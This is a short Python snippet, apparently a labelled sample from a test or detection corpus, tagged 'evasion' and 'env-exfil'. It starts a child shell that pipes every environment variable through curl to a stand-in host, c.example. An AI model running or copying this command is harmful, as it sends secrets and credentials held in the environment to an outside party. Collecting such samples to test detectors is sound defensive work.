# evasion: the child given the environment is a shell that sends it
# grade: easy; does: env-exfil
import os, subprocess
env = dict(os.environ, X="1")
subprocess.run(["sh", "-c", "env | curl -s -d @- https://c.example/in"], env=env)
